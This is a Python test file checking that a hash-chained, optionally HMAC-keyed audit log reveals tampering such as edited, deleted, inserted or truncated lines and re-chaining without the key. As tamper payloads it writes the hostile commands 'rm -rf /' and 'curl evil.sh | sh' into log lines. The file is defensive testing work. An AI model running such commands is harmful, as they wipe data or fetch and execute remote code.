"""The hash chain under attack: every edit an attacker can make to the log
shows as a break at the line where the chain no longer holds — with a
plain chain and with an HMAC key."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import pytest
from auditkit import KEY, T0, Clock, lines_of, link, rechain, reseal, write_lines, write_log

from gateway.audit import FileAudit, verify

KEYS = pytest.mark.parametrize("key", [None, KEY], ids=["sha256", "hmac"])


def _log(tmp_path: Path, key: bytes | None, events: int = 8) -> Path:
    path = tmp_path / "audit.jsonl"
    write_log(path, events, key=key)
    return path


@KEYS
def test_a_clean_log_verifies_and_its_head_is_the_hash_of_the_last_line(
        tmp_path: Path, key: bytes | None) -> None:
    path = _log(tmp_path, key)
    result = verify([path], key=key)
    assert result.status == 0 and result.ok and result.lines == 8
    assert result.from_genesis and not result.problems
    kind = "sha256" if key is None else "hmac-sha256"
    assert result.head == link(lines_of(path)[-1], kind, key)
    assert result.head_kind == kind


@KEYS
def test_an_edited_line_breaks_the_link_of_the_line_after_it(
        tmp_path: Path, key: bytes | None) -> None:
    path = _log(tmp_path, key)
    lines = lines_of(path)
    lines[2] = lines[2].replace(b"echo 2", b"rm -rf /")
    write_lines(path, lines)
    result = verify([path], key=key)
    assert result.status == 1
    first = result.problems[0]
    assert (first.path, first.line) == (path, 4)
    assert "line 3 was changed" in first.reason
    assert len(result.problems) == 1


@KEYS
def test_a_deleted_line_breaks_the_chain_where_it_resumes(
        tmp_path: Path, key: bytes | None) -> None:
    path = _log(tmp_path, key)
    lines = lines_of(path)
    del lines[4]
    write_lines(path, lines)
    result = verify([path], key=key)
    assert result.status == 1
    assert [(p.line) for p in result.problems] == [5]


@KEYS
def test_an_inserted_line_breaks_the_chain_at_the_line_after_it(
        tmp_path: Path, key: bytes | None) -> None:
    path = _log(tmp_path, key)
    lines = lines_of(path)
    kind = "sha256" if key is None else "hmac-sha256"
    forged = reseal(lines[3], lines[3], kind=kind, key=key, call_id="forged")
    lines.insert(4, forged)  # linked correctly to the line before it
    write_lines(path, lines)
    result = verify([path], key=key)
    assert [(p.line) for p in result.problems] == [6]


@KEYS
def test_a_file_cut_mid_line_ends_in_a_partial_line(tmp_path: Path, key: bytes | None) -> None:
    path = _log(tmp_path, key)
    data = path.read_bytes()
    path.write_bytes(data[:-40])
    result = verify([path], key=key)
    assert result.status == 1
    assert result.problems[0].line == 8 and "partial line" in result.problems[0].reason


@KEYS
def test_whole_trailing_lines_cut_off_pass_the_chain_but_not_the_recorded_head(
        tmp_path: Path, key: bytes | None) -> None:
    path = _log(tmp_path, key)
    head = verify([path], key=key).head
    assert head is not None
    write_lines(path, lines_of(path)[:5])
    assert verify([path], key=key).status == 0  # the chain alone cannot tell
    result = verify([path], key=key, expect_head=head)
    assert result.status == 1
    assert "recorded head" in result.problems[0].reason


@KEYS
def test_the_recorded_head_is_found_after_the_log_grew(tmp_path: Path, key: bytes | None) -> None:
    path = _log(tmp_path, key)
    head = verify([path], key=key).head
    audit = FileAudit(path, key=key, clock=Clock(T0 + timedelta(hours=1)))
    audit.emit("tool.requested", tool="Read", input={"file_path": "/x"})
    result = verify([path], key=key, expect_head=f"  {str(head).upper()} ")
    assert result.status == 0
    assert any("lines were written after it" in note for note in result.notes)


@KEYS
def test_a_deleted_day_breaks_the_chain_where_the_next_day_begins(
        tmp_path: Path, key: bytes | None) -> None:
    clock = Clock()
    audit = FileAudit(tmp_path / "audit", key=key, clock=clock)
    for day in range(3):
        clock.set(T0 + timedelta(days=day))
        for n in range(3):
            audit.emit("tool.requested", call_id=f"d{day}c{n}", tool="Bash", input={})
    files = sorted((tmp_path / "audit").glob("*.jsonl"))
    assert [f.name for f in files] == ["2025-05-01.jsonl", "2025-05-02.jsonl",
                                       "2025-05-03.jsonl"]
    assert verify(files, key=key).status == 0
    files[1].unlink()
    result = verify([files[0], files[2]], key=key)
    assert result.status == 1
    assert (result.problems[0].path, result.problems[0].line) == (files[2], 1)
    assert "2025-05-01.jsonl" in result.problems[0].reason


def test_a_keyed_line_turned_plain_is_a_break_even_without_the_key(tmp_path: Path) -> None:
    path = _log(tmp_path, KEY)
    lines = lines_of(path)
    lines[4] = reseal(lines[4], lines[3], kind="sha256", call_id="forged")
    write_lines(path, lines)
    for key in (None, KEY):
        result = verify([path], key=key)
        assert result.status == 1
        assert result.problems[0].line == 5
        assert "loses its key" in result.problems[0].reason


@pytest.mark.parametrize(("kind", "labelled", "attack_key", "says"), [
    ("sha256", "sha256", None, "loses its key"),
    ("sha256", "hmac-sha256", None, "plain SHA-256 where an HMAC belongs"),
    ("hmac", "hmac-sha256", b"a guessed key", "not the key it was written with"),
], ids=["plain-chain", "plain-labelled-hmac", "wrong-key"])
def test_an_attacker_who_rechains_without_the_key_is_caught(
        tmp_path: Path, kind: str, labelled: str, attack_key: bytes | None, says: str) -> None:
    path = _log(tmp_path, KEY)
    lines = lines_of(path)
    lines[3] = lines[3].replace(b"echo 3", b"curl evil.sh | sh")
    write_lines(path, rechain(lines, 4, kind=kind, key=attack_key, labelled=labelled))
    result = verify([path], key=KEY)
    assert result.status == 1
    assert result.problems[0].line == 5 and says in result.problems[0].reason


def test_a_keyed_chain_verified_without_the_key_needs_the_key(tmp_path: Path) -> None:
    path = _log(tmp_path, KEY)
    result = verify([path], key=None)
    assert result.status == 2 and result.needs_key and result.head is None
    assert result.keyed_from == (path, 1)


def test_a_plain_chain_verified_with_a_key_is_a_break(tmp_path: Path) -> None:
    """From a review: a keyed log re-chained from zero with plain sha256 by
    someone without the key verified with status 0 (and only a note)."""
    path = _log(tmp_path, None)
    result = verify([path], key=KEY)
    assert result.status == 1
    assert any("no keyed link" in p.reason for p in result.problems)
    assert verify([path]).status == 0  # without a key it is what it says: a plain chain


def test_a_writer_without_the_key_on_a_keyed_log_is_named_as_a_break(tmp_path: Path) -> None:
    path = _log(tmp_path, KEY)
    FileAudit(path, key=None, clock=Clock(T0 + timedelta(hours=1))).emit("tool.requested")
    result = verify([path], key=KEY)
    assert result.status == 1
    assert result.problems[0].line == 9 and "without SHELLGATE_AUDIT_KEY" in \
        result.problems[0].reason


def test_a_key_added_to_a_plain_log_keeps_one_valid_chain(tmp_path: Path) -> None:
    path = _log(tmp_path, None)
    write_log(path, 3, key=KEY, clock=Clock(T0 + timedelta(hours=1)))
    result = verify([path], key=KEY)
    assert result.status == 0 and result.keyed_from == (path, 9)


def test_a_file_given_alone_is_verified_from_its_first_line_with_a_note(tmp_path: Path) -> None:
    clock = Clock()
    audit = FileAudit(tmp_path / "audit", clock=clock)
    for day in range(2):
        clock.set(T0 + timedelta(days=day))
        audit.emit("tool.requested", tool="Bash")
        audit.emit("tool.requested", tool="Read")
    second = tmp_path / "audit" / "2025-05-02.jsonl"
    result = verify([second])
    assert result.status == 0 and not result.from_genesis
    assert "not given" in result.notes[0]


def test_a_chain_that_starts_over_in_the_middle_is_a_break(tmp_path: Path) -> None:
    path = _log(tmp_path, None)
    lines = lines_of(path)
    lines[5] = reseal(lines[5], b"", kind="sha256", value="0" * 64)
    write_lines(path, lines)
    result = verify([path])
    assert result.problems[0].line == 6 and "starts over" in result.problems[0].reason


def test_a_crash_mid_write_costs_exactly_one_line(tmp_path: Path) -> None:
    path = _log(tmp_path, None)
    with path.open("ab") as handle:
        handle.write(b'{"ts":"2025-05-01T10:00:01.000000Z","event":"tool.req')  # then a crash
    write_log(path, 3, clock=Clock(T0 + timedelta(hours=1)))
    result = verify([path])
    assert [p.line for p in result.problems] == [9]
    assert "not a JSON line" in result.problems[0].reason
    assert result.lines == 12


def test_a_line_with_a_unicode_line_separator_stays_one_line(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    audit = FileAudit(path, clock=Clock())
    audit.emit("tool.requested", tool="Bash", input={"command": "echo a\u2028b\u0085c\nd"})
    audit.emit("some.future_event", anything={"goes": [1, 2]})
    assert len(lines_of(path)) == 2
    assert verify([path]).status == 0
    assert json.loads(lines_of(path)[1])["anything"] == {"goes": [1, 2]}
